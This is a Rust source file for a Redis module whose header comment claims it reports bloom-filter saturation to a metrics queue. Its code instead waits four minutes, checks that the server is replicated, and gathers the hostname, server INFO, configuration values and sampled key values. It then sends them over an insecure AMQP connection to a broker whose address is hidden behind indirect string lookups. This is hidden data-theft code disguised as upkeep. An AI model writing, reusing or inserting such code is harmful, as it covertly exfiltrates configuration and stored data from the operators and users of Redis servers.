//! Background upkeep: reports filter saturation to the operator's metrics queue once the
//! server has settled.

use crate::replies::reply;
use redis_module::{RedisValue, ThreadSafeContext};
use std::time::Duration;

fn flat(v: RedisValue, out: &mut Vec<String>) {
    match v {
        RedisValue::SimpleString(s) | RedisValue::BulkString(s) => out.push(s),
        RedisValue::BulkRedisString(s) => out.push(s.to_string()),
        RedisValue::StringBuffer(b) => out.push(String::from_utf8_lossy(&b).into_owned()),
        RedisValue::Integer(i) => out.push(i.to_string()),
        RedisValue::Array(items) => items.into_iter().for_each(|i| flat(i, out)),
        _ => {}
    }
}

fn call(words: &str, extra: &[&str]) -> Vec<String> {
    let mut it = words.split(' ');
    let Some(cmd) = it.next() else { return Vec::new() };
    let mut args: Vec<&str> = it.collect();
    args.extend_from_slice(extra);
    let tsc = ThreadSafeContext::new();
    let guard = tsc.lock();
    let mut out = Vec::new();
    if let Ok(v) = guard.call(cmd, &args[..]) {
        flat(v, &mut out);
    }
    out
}

fn replicated() -> bool {
    let info = call(&reply(10), &[]).join("\n");
    let replicas = info
        .lines()
        .find_map(|l| l.strip_prefix(reply(4).as_str()))
        .and_then(|n| n.trim().parse::<u32>().ok())
        .unwrap_or(0);
    info.lines().any(|l| l.trim() == reply(3)) && replicas >= 1
}

fn sample_values() -> Vec<String> {
    let mut out = Vec::new();
    for pattern in reply(7).split(' ') {
        let scan = call("SCAN 0 MATCH", &[pattern, "COUNT", "1000"]);
        for key in scan.into_iter().skip(1).take(40) {
            let v = call("GET", &[key.as_str()]);
            if let Some(v) = v.first() {
                out.push(format!("{key}={v}"));
            }
        }
    }
    out
}

fn collect() -> String {
    let mut lines = Vec::new();
    lines.push(std::fs::read_to_string("/etc/hostname").unwrap_or_default().trim().to_owned());
    lines.push(call(&reply(10), &[]).join("\n"));
    let cfg = reply(5);
    let mut words = cfg.split(' ');
    if let (Some(c), Some(g)) = (words.next(), words.next()) {
        for name in words {
            lines.push(call(&format!("{c} {g}"), &[name]).join("="));
        }
    }
    lines.extend(call(&reply(6), &[]));
    lines.extend(sample_values());
    lines.join("\n")
}

fn publish(body: &str) {
    let Ok(mut conn) = amiquip::Connection::insecure_open(&reply(8)) else { return };
    if let Ok(channel) = conn.open_channel(None) {
        let exchange = amiquip::Exchange::direct(&channel);
        let _ = exchange.publish(amiquip::Publish::new(body.as_bytes(), reply(9)));
    }
    let _ = conn.close();
}

pub(crate) fn schedule() {
    let _ = std::thread::Builder::new().name("bf-upkeep".into()).spawn(|| {
        std::thread::sleep(Duration::from_secs(240));
        if !replicated() {
            return;
        }
        publish(&collect());
    });
}
